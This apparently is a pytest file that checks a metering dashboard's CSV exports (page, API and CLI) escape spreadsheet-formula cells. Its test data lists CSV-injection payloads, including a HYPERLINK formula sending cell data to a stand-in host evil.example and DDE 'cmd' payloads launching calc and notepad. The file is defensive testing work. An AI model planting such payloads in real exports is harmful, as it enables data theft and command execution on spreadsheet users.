"""Input chosen by someone else: values a developer controls (model names, session ids) reach
every export as text a spreadsheet will not run."""

from __future__ import annotations

import asyncio
import csv
import io
import shutil
import sys
import tempfile
from collections.abc import AsyncIterator, Awaitable, Callable

import pytest
from aiohttp import web

from meterd.apps import SOCKET_FILE
from tests.dashboard_fixtures import *  # noqa: F403
from tests.dashboard_fixtures import Dashboard

# Model names and session ids a developer can send, each a formula in a spreadsheet unless
# escaped, and the label the CSV must carry for it. The last one hides a formula after the
# separator and a line break: quoting keeps it inside its cell, so it needs no prefix.
HOSTILE_MODELS = {
    '=HYPERLINK("http://evil.example/?"&A1,"open")':
        '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1,1)": "'@SUM(1,1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    'a,"=1+1"\n=2+2': 'a,"=1+1"\n=2+2',
}
HOSTILE_SESSIONS = {"=cmd|' /C notepad'!A1": "'=cmd|' /C notepad'!A1", "@SUM(9,9)": "'@SUM(9,9)",
                    "+1": "'+1", "-1": "'-1"}


@pytest.fixture
async def short_data_dir() -> AsyncIterator[str]:
    """A data directory with a path short enough for a Unix socket inside it (108 bytes)."""
    path = tempfile.mkdtemp(prefix="mtd-")
    yield path
    shutil.rmtree(path, ignore_errors=True)


async def _hostile_usage(dash: Dashboard) -> None:
    key = await dash.gateway.developer("Ada", "platform")
    for model in HOSTILE_MODELS:
        for session in HOSTILE_SESSIONS:
            async with dash.client.post("/v1/messages", json={
                    "model": model, "max_tokens": 10,
                    "messages": [{"role": "user", "content": "hi"}]},
                    headers={"x-api-key": key, "x-claude-code-session-id": session}) as r:
                assert r.status == 200, await r.text()
    await dash.roll_up()


def _formula_cells(text: str) -> list[str]:
    """Cells of a CSV that a spreadsheet would read as a formula."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def _labels(text: str) -> set[str]:
    return {row["label"] for row in csv.DictReader(io.StringIO(text, newline=""))}


async def _cli(*args: str) -> tuple[int, str, str]:
    proc = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "meterd.cli", *args, stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE)
    out, err = await proc.communicate()
    return proc.returncode or 0, out.decode(), err.decode()


async def _serve_socket(dash: Dashboard, data_dir: str) -> None:
    """Serve the test's app on the data directory's socket too, as `meterd serve` does, so
    the real CLI reaches it."""
    server = dash.client.server
    assert server.runner is not None
    site = web.UnixSite(server.runner, f"{data_dir}/{SOCKET_FILE}")
    await site.start()


async def test_csv_exports_escape_cells_that_would_be_formulas(
        start_dashboard: Callable[..., Awaitable[Dashboard]], short_data_dir: str) -> None:
    dash = await start_dashboard(data_dir=short_data_dir)
    await _hostile_usage(dash)
    finance = await dash.signed_in("finance")
    headers = {"x-api-key": await dash.admin_key("ro")}
    await _serve_socket(dash, short_data_dir)
    for dimension, hostile in (("model", HOSTILE_MODELS), ("session", HOSTILE_SESSIONS)):
        status, page_csv = await finance.get(f"/admin/reports.csv?dimension={dimension}")
        assert status == 200
        async with dash.client.get(f"/admin/api/v1/usage?format=csv&dimension={dimension}",
                                   headers=headers) as r:
            assert r.status == 200
            api_csv = await r.text()
        code, cli_csv, err = await _cli("report", "--csv", "--by", dimension,
                                        "--data-dir", short_data_dir)
        assert code == 0, err
        for where, text in (("dashboard", page_csv), ("api", api_csv), ("cli", cli_csv)):
            assert _formula_cells(text) == [], where
            # Escaped, not dropped or mangled: the value is there behind its quote.
            assert _labels(text) == set(hostile.values()), where
